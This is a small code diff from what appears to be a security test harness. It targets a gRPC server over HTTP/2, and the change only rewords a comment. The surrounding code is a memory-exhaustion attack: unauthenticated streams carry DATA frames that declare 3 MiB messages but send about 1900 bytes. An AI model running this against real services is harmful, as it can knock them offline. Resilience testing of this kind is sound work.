@@ -407,8 +407,8 @@ async def parts_of_messages_without_a_credential(target):
         peer = await connect(target.grpc)
         try:
             await send(peer, PREFACE + frame(SETTINGS, 0, 0))
-            # The streams are opened one by one over most of the attack. Together they would be a burst of calls; this
-            # attack holds memory with incomplete messages.
+            # The streams are opened one by one over most of the attack. Opening them all at once would be another
+            # attack, a burst of calls.
             for stream in range(1, 65, 2):
                 part = frame(DATA, 0, stream, b"\0" + struct.pack(">I", 3 * MIB) + b"a" * 1900)
                 await send(peer, frame(HEADERS, END_HEADERS, stream, head(paths[index % 2])) + part)
